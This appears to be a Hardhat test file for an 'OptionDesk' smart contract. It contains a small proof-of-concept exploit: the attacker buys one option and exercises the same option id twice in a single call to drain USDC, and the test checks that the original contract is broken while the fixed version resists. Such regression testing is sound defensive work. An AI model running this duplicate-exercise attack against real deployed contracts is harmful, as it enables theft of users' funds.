import { expect } from "chai";
import { network } from "hardhat";
import { deploy, type Name } from "./scenario.js";

const USDC = 10n ** 6n;
const ETH = 10n ** 18n;

/** Whether the attacker made no more than a dollar. */
async function attack(name: Name): Promise<boolean> {
  const { viem } = await network.create();
  const { usdc, desk } = await deploy(viem, name);
  const account = (await viem.getWalletClients())[5]!.account;
  await usdc.write.mint([account.address, 500_000n * USDC]);
  await usdc.write.approve([desk.address, 2n ** 256n - 1n], { account });

  const id = await desk.read.optionsLength();
  await desk.write.buy([2_900n * USDC, 500n * ETH, 1n], { account });
  await desk.write.exercise([[id, id]], { account }).catch(() => {});
  return (await usdc.read.balanceOf([account.address])) <= 500_001n * USDC;
}

describe("OptionDesk", () => {
  it("is broken by two calls", async () => expect(await attack("OptionDesk")).to.equal(false));
  it("is not broken once fixed", async () => expect(await attack("OptionDeskFixed")).to.equal(true));
});
